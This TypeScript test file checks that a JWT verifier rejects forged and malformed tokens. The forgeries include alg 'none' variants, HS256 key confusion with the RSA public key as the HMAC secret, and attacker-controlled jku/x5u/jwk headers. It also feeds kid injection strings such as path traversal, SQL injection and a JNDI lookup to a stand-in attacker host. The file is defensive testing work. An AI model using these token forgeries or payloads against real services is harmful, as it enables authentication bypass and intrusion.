import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTokenVerifier, type TokenVerifierOptions } from '../../../src/auth/verify-token.js';
import {
  AUDIENCE,
  b64url,
  claimsAt,
  expectInvalidToken,
  hmacSigner,
  ISSUER,
  makeKey,
  nowSeconds,
  rawToken,
  rs256Signer,
  rsa1024,
  signRaw,
  signToken,
  startJwksServer,
  type JwksServer,
  type TestKey,
} from './fixtures.js';

let rsa: TestKey;
let ec: TestKey;
let attacker: TestKey;
let attackerServer: JwksServer;

beforeAll(async () => {
  [rsa, ec, attacker] = await Promise.all([
    makeKey('RS256', 'rsa-1'),
    makeKey('ES256', 'ec-1'),
    makeKey('RS256', 'attacker-1'),
  ]);
  // Where hostile headers point; it must never be asked for anything.
  attackerServer = await startJwksServer([attacker.publicJwk]);
});

afterAll(async () => {
  await attackerServer.stop();
});

function verifierFor(overrides: Partial<TokenVerifierOptions> = {}) {
  return createTokenVerifier({
    issuer: ISSUER,
    audience: AUDIENCE,
    algorithms: ['RS256', 'ES256'],
    keys: [
      { kid: rsa.kid, pem: rsa.publicPem },
      { kid: ec.kid, jwk: ec.publicJwk },
    ],
    ...overrides,
  });
}

/** A valid token's header, payload and signature segments, to tamper with. */
async function segments(key: TestKey = rsa): Promise<[string, string, string]> {
  const [h, p, s] = (await signToken(key)).split('.');
  return [h!, p!, s!];
}

describe('alg none', () => {
  it.each(['none', 'None', 'NONE', 'nOnE'])('alg %s with an empty signature', async (alg) => {
    const token = rawToken({ alg, kid: rsa.kid }, claimsAt(nowSeconds()), '');
    await expectInvalidToken(verifierFor().verify(token), 'malformed token');
  });

  it.each(['none', 'None', 'NONE', 'nOnE'])('alg %s with some signature bytes', async (alg) => {
    const token = rawToken({ alg, kid: rsa.kid }, claimsAt(nowSeconds()), 'c2lnbmF0dXJl');
    await expectInvalidToken(verifierFor().verify(token), 'algorithm not allowed');
  });

  it('an algorithm name in another case than configured', async () => {
    const [, payload, signature] = await segments();
    const token = `${b64url({ alg: 'rs256', kid: rsa.kid })}.${payload}.${signature}`;
    await expectInvalidToken(verifierFor().verify(token), 'algorithm not allowed');
  });
});

describe('HS256 key confusion (public key used as an HMAC secret)', () => {
  const forgeries = () => [
    ['PEM', rsa.publicPem],
    ['PEM without trailing newline', rsa.publicPem.trimEnd()],
    ['JWK JSON', JSON.stringify(rsa.publicJwk)],
  ];

  it('HS256 not configured → algorithm not allowed', async () => {
    for (const [, secret] of forgeries()) {
      const token = signRaw(
        { alg: 'HS256', kid: rsa.kid },
        claimsAt(nowSeconds()),
        hmacSigner(secret!),
      );
      await expectInvalidToken(verifierFor().verify(token), 'algorithm not allowed');
    }
  });

  it('HS256 configured with a secret → the public key is never the HMAC key', async () => {
    const verifier = verifierFor({
      algorithms: ['RS256', 'HS256'],
      hs256Secret: 'the-real-shared-secret-of-32-chars!!',
      keys: [{ kid: rsa.kid, pem: rsa.publicPem }],
    });
    for (const [, secret] of forgeries()) {
      for (const header of [{ alg: 'HS256', kid: rsa.kid }, { alg: 'HS256' }]) {
        const token = signRaw(header, claimsAt(nowSeconds()), hmacSigner(secret!));
        await expectInvalidToken(verifier.verify(token), 'invalid signature');
      }
    }
  });
});

describe('signatures', () => {
  it('blank signature segment', async () => {
    const [header, payload] = await segments();
    await expectInvalidToken(verifierFor().verify(`${header}.${payload}.`), 'malformed token');
  });

  it('signature of zero bytes, of the wrong length, and of all zeros', async () => {
    const [header, payload, signature] = await segments();
    for (const bad of ['AA', 'A'.repeat(signature.length)]) {
      await expectInvalidToken(
        verifierFor().verify(`${header}.${payload}.${bad}`),
        'invalid signature',
      );
    }
  });

  it('ECDSA signature that is not a valid (r, s) pair', async () => {
    const [header, payload] = await segments(ec);
    const zeros = Buffer.alloc(64).toString('base64url');
    await expectInvalidToken(
      verifierFor().verify(`${header}.${payload}.${zeros}`),
      'invalid signature',
    );
  });

  it('payload changed after signing', async () => {
    const [header, , signature] = await segments();
    const payload = b64url(claimsAt(nowSeconds(), { tenant: 'globex' }));
    await expectInvalidToken(
      verifierFor().verify(`${header}.${payload}.${signature}`),
      'invalid signature',
    );
  });

  it('a validly signed token whose payload is not JSON', async () => {
    const { CompactSign } = await import('jose');
    const token = await new CompactSign(new TextEncoder().encode('not json'))
      .setProtectedHeader({ alg: 'RS256', kid: rsa.kid })
      .sign(rsa.privateKey);
    await expectInvalidToken(verifierFor().verify(token), 'malformed token');
  });
});

describe('headers never used to find keys', () => {
  it('embedded jwk header with the attacker key', async () => {
    for (const kid of [rsa.kid, undefined, 'attacker-1']) {
      const token = await signToken(attacker, {}, { header: { kid, jwk: attacker.publicJwk } });
      await expectInvalidToken(
        verifierFor().verify(token),
        kid === 'attacker-1' ? 'no matching key' : 'invalid signature',
      );
    }
  });

  it('jku / x5u pointing at an attacker JWKS are not fetched', async () => {
    const before = attackerServer.requests;
    const legit = await startJwksServer([rsa.publicJwk]);
    try {
      const verifiers = [verifierFor(), verifierFor({ keys: [], jwks: { url: legit.url } })];
      for (const verifier of verifiers) {
        for (const header of [
          { jku: attackerServer.url },
          { x5u: attackerServer.url },
          { jku: attackerServer.url, kid: 'attacker-1' },
          { x5c: ['MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA'] },
        ]) {
          const token = await signToken(attacker, {}, { header: { kid: rsa.kid, ...header } });
          await expectInvalidToken(
            verifier.verify(token),
            header.kid === 'attacker-1' ? 'no matching key' : 'invalid signature',
          );
        }
      }
      expect(attackerServer.requests).toBe(before);
    } finally {
      await legit.stop();
    }
  });

  it.each([
    '../../etc/passwd',
    "' OR '1'='1",
    '"; DROP TABLE keys; --',
    '${jndi:ldap://attacker.test/a}',
    '%00',
    'rsa-1\u0000',
  ])('kid injection %j → no matching key', async (kid) => {
    await expectInvalidToken(
      verifierFor().verify(await signToken(attacker, {}, { header: { kid } })),
      'no matching key',
    );
  });

  it.each([
    ['', ''],
    ['number', 1],
    ['object', { $ne: null }],
    ['huge', 'k'.repeat(1000)],
  ])('kid that is %s → invalid kid', async (_name, kid) => {
    const token = rawToken({ alg: 'RS256', kid }, claimsAt(nowSeconds()), 'c2ln');
    await expectInvalidToken(verifierFor().verify(token), 'invalid kid');
  });

  it('unknown kid → no matching key', async () => {
    const stranger = await makeKey('ES256', 'unknown-kid');
    await expectInvalidToken(verifierFor().verify(await signToken(stranger)), 'no matching key');
  });
});

describe('crit and typ', () => {
  it.each([
    [['x-unknown'], { 'x-unknown': 1 }],
    [['exp'], { exp: 1 }],
    [['b64'], { b64: true }],
    [[], {}],
  ])('crit %j → unsupported critical header', async (crit, extra) => {
    const token = await signToken(rsa, {}, { header: { crit, ...extra } }).catch(() =>
      // jose refuses to sign some of these; a hand-made token tests the same path.
      signRaw({ alg: 'RS256', kid: rsa.kid, crit, ...extra }, claimsAt(nowSeconds()), () =>
        Buffer.from('sig'),
      ),
    );
    await expectInvalidToken(verifierFor().verify(token), 'unsupported critical header');
  });
});

describe('malformed input', () => {
  it.each([
    ['garbage', 'garbage'],
    ['two parts', 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0'],
    ['four parts', 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln.c2ln'],
    ['empty', ''],
    ['spaces', 'a b.c d.e f'],
    ['padding characters', 'eyJhbGciOiJSUzI1NiJ9=.eyJzdWIiOiJhIn0=.c2ln'],
    ['JSON instead of a JWS', '{"alg":"RS256"}'],
    ['header is not JSON', `${b64url('not json')}.${b64url('{}')}.c2ln`],
    ['header is a JSON array', `${b64url([1, 2])}.${b64url('{}')}.c2ln`],
    ['header is JSON null', `${b64url('null')}.${b64url('{}')}.c2ln`],
  ])('%s → malformed token', async (_name, token) => {
    await expectInvalidToken(verifierFor().verify(token), 'malformed token');
  });

  it('header without alg → algorithm not allowed', async () => {
    await expectInvalidToken(
      verifierFor().verify(rawToken({ kid: rsa.kid }, claimsAt(nowSeconds()), 'c2ln')),
      'algorithm not allowed',
    );
  });

  it('non-string input → malformed token', async () => {
    for (const value of [undefined, null, 42, {}]) {
      await expectInvalidToken(verifierFor().verify(value as unknown as string), 'malformed token');
    }
  });

  it('a huge token is refused without being parsed', async () => {
    const huge = `${'a'.repeat(5000)}.${'b'.repeat(5000)}.${'c'.repeat(5000)}`;
    await expectInvalidToken(verifierFor().verify(huge), 'token too large');
    const hugeButSigned = await signToken(rsa, { padding: 'x'.repeat(9000) });
    await expectInvalidToken(verifierFor().verify(hugeButSigned), 'token too large');
  });
});

describe('keys of other parties', () => {
  it('token from another issuer signed with its own key', async () => {
    const other = await makeKey('ES256', 'other-issuer-key');
    await expectInvalidToken(
      verifierFor().verify(await signToken(other, { iss: 'https://other-issuer.test/' })),
      'no matching key',
    );
    const sameKid = await makeKey('ES256', ec.kid);
    await expectInvalidToken(
      verifierFor().verify(await signToken(sameKid, { iss: 'https://other-issuer.test/' })),
      'invalid signature',
    );
  });

  it('a token of our key but another issuer', async () => {
    await expectInvalidToken(
      verifierFor().verify(await signToken(rsa, { iss: 'https://other-issuer.test/' })),
      'unexpected issuer',
    );
  });

  it('RSA-1024 key served by a JWKS: jose refuses to verify with it', async () => {
    const weak = rsa1024('weak-1');
    const server = await startJwksServer([weak.publicJwk]);
    try {
      const verifier = verifierFor({ keys: [], algorithms: ['RS256'], jwks: { url: server.url } });
      const token = signRaw(
        { alg: 'RS256', kid: weak.kid },
        claimsAt(nowSeconds()),
        rs256Signer(weak.privateKey),
      );
      await expectInvalidToken(verifier.verify(token), 'unusable key');
    } finally {
      await server.stop();
    }
  });

  it('RSA-1024 static key is refused at start', () => {
    const weak = rsa1024('weak-2');
    expect(() => verifierFor({ keys: [{ jwk: weak.publicJwk }] })).toThrow(/2048/);
  });
});
